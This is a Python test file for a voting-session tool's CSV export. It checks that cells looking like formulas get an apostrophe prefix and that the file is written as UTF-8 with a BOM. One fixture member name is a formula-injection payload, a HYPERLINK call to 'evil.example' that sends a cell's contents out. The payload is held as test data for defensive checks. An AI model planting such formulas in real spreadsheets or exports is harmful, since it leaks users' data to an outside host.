"""record.csv opens safely in a spreadsheet: formula-like cells neutralised, UTF-8 with a BOM, item titles."""

from __future__ import annotations

import csv
import io

from near_tui.declaration.record import build_record, record_csv
from near_tui.inputs.agenda_file import load_agenda
from near_tui.service.session import Session
from support import FixedClock, write_agenda

# Names a spreadsheet would run as formulas (each one passes the agenda's own checks).
FORMULA_NAMES = {
    "m-hyper": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "m-plus": "+1",
    "m-minus": "-2",
    "m-at": "@x",
    "m-plain": "Heilongjiang Province",
}
# The cell as it must be written: an apostrophe before the formula character, the rest as given.
EXPECTED_CELL = {
    "m-hyper": '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "m-plus": "'+1",
    "m-minus": "'-2",
    "m-at": "'@x",
    "m-plain": "Heilongjiang Province",
}


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _closed_vote(tmp_path):
    roster = [{"id": mid, "name": name, "country": "CN", "status": "member", "voting": "full",
               **({"native_name": "黑龙江省"} if mid == "m-plain" else {})}
              for mid, name in FORMULA_NAMES.items()]
    items = [{"id": "1", "kind": "decision", "article": "8.11", "title": "=SUM(A1:A9) budget"}]
    agenda = write_agenda(tmp_path, roster, items)
    session = Session.create(load_agenda(agenda), str(tmp_path / "s.sqlite"), clock=FixedClock())
    for mid in FORMULA_NAMES:
        session.set_attendance(mid, "in_person")
    session.open_vote("1")
    for mid in FORMULA_NAMES:
        session.record_vote("1", mid, "yes")
    session.close_vote("1")
    return session


def test_formula_like_names_and_titles_are_neutralised(tmp_path):
    session = _closed_vote(tmp_path)
    record = build_record(session.log.read_events())
    rows = _rows(record_csv(record))
    assert {r["member_id"]: r["member_name"] for r in rows} == EXPECTED_CELL
    assert {r["item_title"] for r in rows} == {"'=SUM(A1:A9) budget"}
    assert {r["member_native_name"] for r in rows if r["member_id"] == "m-plain"} == {"黑龙江省"}
    # record.json keeps every name exactly as written: only the spreadsheet copy is prefixed.
    names = {m["id"]: m["name"] for m in record["members"]}
    assert names == FORMULA_NAMES
    session.close_log()


def test_tab_and_carriage_return_at_the_start_of_a_cell_are_neutralised():
    # The agenda refuses such names; a record from elsewhere (or an older session) must still be safe.
    record = {"items": [{"id": "9", "title": "\rTitle", "roll_call": {"members": [
        {"member_id": "m-tab", "name": "\tTab", "country": "JP", "attendance": "in_person",
         "answer": "yes", "source": "recorded", "corrections": 0, "undos": 0, "history": []},
        {"member_id": "m-cr", "name": "\r\nCR", "country": "JP", "attendance": "in_person",
         "answer": "-", "source": "recorded", "corrections": 0, "undos": 0, "history": []},
    ]}}]}
    rows = _rows(record_csv(record))
    assert [r["member_name"] for r in rows] == ["'\tTab", "'\r\nCR"]
    assert [r["item_title"] for r in rows] == ["'\rTitle", "'\rTitle"]
    assert [r["answer"] for r in rows] == ["yes", "'-"]
    # A cell holding a line break is quoted, so it never starts a row of its own.
    assert record_csv(record).count(b"\r\n") == 3 + 1  # header + 2 rows, and the CR LF inside "\r\nCR"


def test_the_csv_is_utf8_with_a_bom_and_keeps_every_script(ga12_replayed):
    record = build_record(ga12_replayed.log.read_events())
    data = record_csv(record)
    # The BOM is what makes Excel read the file as UTF-8 (docs/declaration.md, "record.csv").
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\xef\xbb\xbf") == 1
    # Read as UTF-8 without the BOM in mind, the first header carries it: readers use utf-8-sig.
    assert data.decode("utf-8").splitlines()[0].startswith("\ufeffitem_id,")
    rows = _rows(data)
    assert list(rows[0])[:5] == ["item_id", "item_title", "member_id", "member_name", "member_native_name"]
    titles = {i.id: i.title for i in ga12_replayed.state.definition.items}
    assert {r["item_id"]: r["item_title"] for r in rows} == {i: titles[i] for i in ("2", "4", "5", "6", "7", "8")}
    natives = {m.id: m.native_name or "" for m in ga12_replayed.state.definition.members}
    assert all(r["member_native_name"] == natives[r["member_id"]] for r in rows)
